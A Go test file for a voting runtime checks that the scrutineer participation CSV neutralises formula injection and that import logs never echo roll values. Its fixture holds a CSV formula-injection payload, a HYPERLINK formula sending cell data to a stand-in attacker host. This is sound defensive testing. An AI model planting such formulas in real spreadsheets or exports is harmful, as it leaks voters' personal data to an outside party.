package runtime

import (
	"encoding/csv"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"scrutin.dev/scrutin/internal/runtimetest"
	"scrutin.dev/scrutin/voting-runtime/delivery/sink"
)

// formulaRoll holds voter ids, names, emails and phones that a spreadsheet
// reads as formulas when written as they are: = + - @ at the start, and the
// E.164 phone numbers, which all start with +.
const formulaRoll = `voter_id,name,email,phone
=ID-1,"=HYPERLINK(""https://attacker.example/?""&A2,""Click"")",=1+2@example.org,+33 6 12 34 56 78
@ID-2,+Name,-x@example.org,
-ID-3,-Name,plain@example.org,
ID-4,'Quoted,'quoted@example.org,
ID-5,Plain Name,ok@example.org,+44 20 7946 0958
`

// TestParticipationCSVNeutralisesFormulas: the participation CSV wrote roll
// values that start with =, +, -, @ unchanged, so =HYPERLINK(...) opened as a
// live formula in a scrutineer's spreadsheet. Every such cell now starts with
// a single quote (OWASP), phones included; and the runtime says at import
// which lines and columns start that way, never what they hold.
func TestParticipationCSVNeutralisesFormulas(t *testing.T) {
	smtp := sink.StartSMTP(t)
	dir := t.TempDir()
	now := time.Now()
	rollPath := filepath.Join(dir, "roll.csv")
	if err := os.WriteFile(rollPath, []byte(formulaRoll), 0o600); err != nil {
		t.Fatal(err)
	}
	rt := runtimetest.Start(t, runtimeBin, nil, "--election", runtimetest.ElectionFile(t, dir, "EmailCode", now.Add(-time.Minute), now.Add(time.Hour),
		"  scrutineers: {exportFields: [VoterID, Name, Email, Phone, Voted]}\n"),
		"--roll", rollPath, "--store", "embedded:"+filepath.Join(dir, "data", "election.db"), "--smtp", smtp.Addr(),
		"--scrutineer-token-file", filepath.Join(dir, "scrutineer-token"))

	req, _ := http.NewRequest(http.MethodGet, rt.URL+"/api/v1/scrutineer/participation.csv", nil)
	req.Header.Set("Authorization", "Bearer "+runtimetest.ReadFile(t, filepath.Join(dir, "scrutineer-token")))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	data, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("participation.csv: %d %s", resp.StatusCode, data)
	}
	rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, data)
	}
	want := [][]string{ // voters in voter id order
		{"voter_id", "name", "email", "phone", "voted"},
		{"'-ID-3", "'-Name", "plain@example.org", "", "false"},
		{"'=ID-1", `'=HYPERLINK("https://attacker.example/?"&A2,"Click")`, "'=1+2@example.org", "'+33612345678", "false"},
		{"'@ID-2", "'+Name", "'-x@example.org", "", "false"},
		{"ID-4", "''Quoted", "''quoted@example.org", "", "false"},
		{"ID-5", "Plain Name", "ok@example.org", "'+442079460958", "false"},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("export:\n%q\nwant\n%q", rows, want)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, column %d starts like a formula: %q", i+1, j+1, cell)
			}
		}
	}

	// The import names the lines and columns, never their values.
	logs := rt.Logs.String()
	for _, w := range []string{"line 2: voter_id", "line 2: name", "line 2: email", "line 3: voter_id", "line 3: name", "line 3: email", "line 4: voter_id", "line 4: name"} {
		if !strings.Contains(logs, w) {
			t.Errorf("the runtime's logs do not warn %q:\n%s", w, logs)
		}
	}
	for _, w := range []string{"line 2: phone", "line 6: phone", "line 4: email", "line 5"} {
		if strings.Contains(logs, w) {
			t.Errorf("the runtime's logs warn %q, which needs no warning:\n%s", w, logs)
		}
	}
	for _, secret := range []string{"HYPERLINK", "=ID-1", "+Name", "-x@example.org"} {
		if strings.Contains(logs, secret) {
			t.Errorf("the runtime's logs hold a roll value %q:\n%s", secret, logs)
		}
	}
}
